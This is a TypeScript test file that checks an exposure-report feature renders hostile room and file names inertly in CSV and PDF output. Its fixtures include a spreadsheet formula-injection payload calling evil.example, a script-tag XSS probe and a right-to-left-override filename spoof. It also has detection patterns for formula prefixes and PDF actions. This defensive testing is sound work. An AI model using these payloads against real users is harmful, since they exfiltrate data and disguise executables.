// The report as lists for a spreadsheet and as a document for print: what people have called their rooms is text in both.
import { createHash } from 'node:crypto'
import { extractText, getDocumentProxy } from 'unpdf'
import { describe, expect, test, vi } from 'vitest'
import { CSV_NAMES, printList } from '../src/features/exposure/formats/csv.ts'
import { inertText } from '../src/features/exposure/formats/inert-text.ts'
import { reportPdf } from '../src/features/exposure/formats/pdf.ts'
import { HOSTILE_NAMES, hostileReport } from './_report.ts'

vi.setConfig({ testTimeout: 120_000 })

const textOf = (bytes: Uint8Array): string => Buffer.from(bytes).toString('utf8')

/** Rows of cells, read by the rules of RFC 4180, or as a spreadsheet does that takes something else for the end of a cell. */
function readCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [[]]
  let [cell, isQuoted] = ['', false]
  const end = (): void => {
    rows.at(-1)?.push(cell)
    cell = ''
  }
  for (let index = 0; index < text.length; index += 1) {
    const [sign, next] = [text[index], text[index + 1]]
    if (isQuoted && sign === '"' && next === '"') {
      cell += '"'
      index += 1
    } else if (sign === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted
    else if (isQuoted) cell += sign
    else if (sign === separator) end()
    else if (sign === '\r' && next === '\n') {
      end()
      rows.push([])
      index += 1
    } else cell += sign
  }
  return rows.slice(0, -1)
}

const CALCULATES = /^[\s\u200B\uFEFF]*[=+\-@＝＋－＠\t\r]/u

describe('the lists', () => {
  const files = Object.fromEntries(CSV_NAMES.map((name) => [name, printList(hostileReport(), name)]))

  test('are read back cell by cell, with what was meant in them', () => {
    expect(Object.keys(files)).toEqual(['rooms.csv', 'people.csv', 'files.csv', 'sessions.csv'])
    const text = textOf(printList(hostileReport(), 'rooms.csv'))
    expect(text.startsWith('\uFEFF"room_id","name",')).toBe(true)
    const [head, ...rows] = readCsv(text.slice(1))
    expect(rows).toHaveLength(HOSTILE_NAMES.length)
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([head?.length]))
    expect(rows[0]).toEqual([
      '!room000:chappe.test', '\'=HYPERLINK("http://evil.example/?"&A1,"Open")', 'finance', 'everybody', 'false', 'true', 'delivered', '60', '0', '0', '0', '10', '5', '70',
      String(60 / 70), '5000', '2026-06-08T09:00:00.000Z', '2026-06-08T10:00:00.000Z', 'DEVICE0', 'open', 'true', 'true',
    ])
    expect(rows[11]?.[1]).toBe('invoice[U+202E]fdp.exe')
    expect(rows[18]?.[1]).toBe('сводка Ελληνικά עברית العربية 国家机密 é à ç œ')
    expect(rows[17]?.[1]).toHaveLength(400)
  })

  test.each([',', ';', '\t', '|'])('hold nothing that a spreadsheet calculates, whatever it parts cells by: %j', (separator) => {
    for (const bytes of Object.values(files)) {
      for (const cell of readCsv(textOf(bytes).slice(1), separator).flat()) expect(cell.replace(/^['"]+,/, '')).not.toMatch(CALCULATES)
    }
  })

  test('hold no sign that works unseen', () => {
    for (const bytes of Object.values(files)) expect(textOf(bytes).slice(1).replaceAll('\r\n', '')).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\p{Cs}\u200B\u202A-\u202E\u2066-\u2069\uFEFF]/u)
  })
})

describe('text', () => {
  test('keeps what people write, and shows by number what is not seen', () => {
    expect(inertText('Conseil d’État – “été” 👍🏽 نمی‌خواهم')).toBe('Conseil d’État – “été” 👍🏽 نمی‌خواهم')
    expect(inertText('a\u202Eb\u0000c\uD800')).toBe('a[U+202E]b[U+0000]c[U+D800]')
    expect(inertText('é'.repeat(5000), 10)).toHaveLength(10)
    expect(inertText('x'.repeat(400))).toBe('x'.repeat(400))
  })
})

describe.each(['fr', 'en'] as const)('the document in %s', (language) => {
  test('says what was delivered, and how to verify it', async () => {
    const { text } = await extractText(await getDocumentProxy(new Uint8Array(await reportPdf(hostileReport(), language))), { mergePages: true })
    const expected = {
      fr: ['Rapport d’exposition', 'Compte @mallory:chappe.test', 'Messages remis en clair', '1 200', '1,23 Go', 'à supposer remis', 'a block is missing', 'chappe verify-report', '08/06/2026 09:00', '73 467', '60 000 (son organisation', '12 personnes, 3 salons', 'que les organisations étaient celles d’aujourd’hui'],
      en: ['Exposure report', 'Account @mallory:chappe.test', 'Messages delivered in the clear', '1,200', '1.23 GB', 'to be assumed delivered', 'a block is missing', 'chappe verify-report', '2026-06-08 09:00', '73,467', '60,000 (its organisation', '12 people, 3 rooms', 'Unknown, assume: that organisations were those of today'],
    }
    const shown = text.replaceAll(/\s+/g, ' ')
    for (const each of expected[language]) expect(shown).toContain(each)
    // Names of rooms and files, but no names of people.
    expect(shown).toContain('<script>alert(1)</script>')
    expect(shown).toContain('invoice[U+202E]fdp.exe')
    expect(shown).toContain('[U+56FD 5BB6')
    expect(shown).not.toContain('□')
    expect(shown).not.toContain('@agent1:')
    expect(shown).toContain('4711')
  })

  test('says on every page that it is about a drill, where it is', async () => {
    const pages = async (report: ReturnType<typeof hostileReport>): Promise<string[]> => (await extractText(await getDocumentProxy(new Uint8Array(await reportPdf(report, language))))).text
    const mark = { fr: 'EXERCICE', en: 'EXERCISE' }[language]
    expect((await pages({ ...hostileReport(), isExercise: true })).filter((text) => !text.includes(mark))).toEqual([])
    expect((await pages(hostileReport())).filter((text) => text.includes(mark))).toEqual([])
  })

  test('has the same bytes for the same report, and other bytes for another', async () => {
    const digest = async (report = hostileReport()): Promise<string> => createHash('sha256').update(await reportPdf(report, language)).digest('hex')
    const first = await digest()
    vi.useFakeTimers({ now: 4_000_000_000_000, toFake: ['Date'] })
    expect(await digest()).toBe(first)
    vi.useRealTimers()
    expect(await digest({ ...hostileReport(), caseId: '8' })).not.toBe(first)
  })

  test('does nothing: no script, no link, no action, no file in it', async () => {
    const bytes = await reportPdf(hostileReport(), language)
    const document = await getDocumentProxy(new Uint8Array(bytes))
    expect([await document.getJSActions(), await document.getOpenAction(), await document.getAttachments(), await document.getOutline()]).toEqual([null, null, null, null])
    for (let page = 1; page <= document.numPages; page += 1) expect(await (await document.getPage(page)).getAnnotations()).toEqual([])
    expect(bytes.toString('latin1').match(/%%EOF/g)).toHaveLength(1)
    expect(bytes.toString('latin1')).not.toMatch(/\/(?:JavaScript|JS|Launch|URI|OpenAction|AA|EmbeddedFile)\b/)
  })
})

test('a country’s worth of rooms, files and people is printed within bounds', async () => {
  const names = Array.from({ length: 3000 }, (_, index) => `Salon ${index}`)
  const bytes = await reportPdf(hostileReport(names), 'fr')
  expect(bytes.length).toBeLessThan(2_000_000)
  const { text } = await extractText(await getDocumentProxy(new Uint8Array(bytes)), { mergePages: true })
  expect(text).toContain('1500 de plus dans rooms.csv.')
  expect(text).toContain('2500 de plus dans files.csv.')
})
